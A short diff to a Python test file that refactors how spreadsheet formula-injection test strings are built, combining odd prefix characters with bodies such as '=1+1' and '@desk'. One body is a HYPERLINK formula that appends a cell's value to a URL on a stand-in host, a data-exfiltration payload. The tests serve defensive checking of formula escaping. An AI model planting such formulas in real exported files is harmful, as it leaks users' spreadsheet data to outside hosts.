@@ -224,9 +224,12 @@ def test_workbooks(tmp_path):
     assert values[0] == {"id": 1, "text": "first", "day": datetime(2024, 1, 2), "n": 0.5}
 
 
-STARTS = ["", "'", "''", "\x01", "\x00\x0b", "\ufffe", "\uffff", "\t", "\r", "\uff1d"]
 BODIES = ["=1+1", "+41 44", "-7", "@desk", "plain", '=HYPERLINK("http://x/?"&A1)', "#N/A", "#DIV/0!"]
-FORMULAS = [start + body for start in STARTS for body in BODIES]
+FORMULAS = [
+    start + body
+    for start in ["", "'", "''", "\x01", "\x00\x0b", "\ufffe", "\uffff", "\t", "\r", "\uff1d"]
+    for body in BODIES
+]
 NOT_XML = "[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]"
 
 
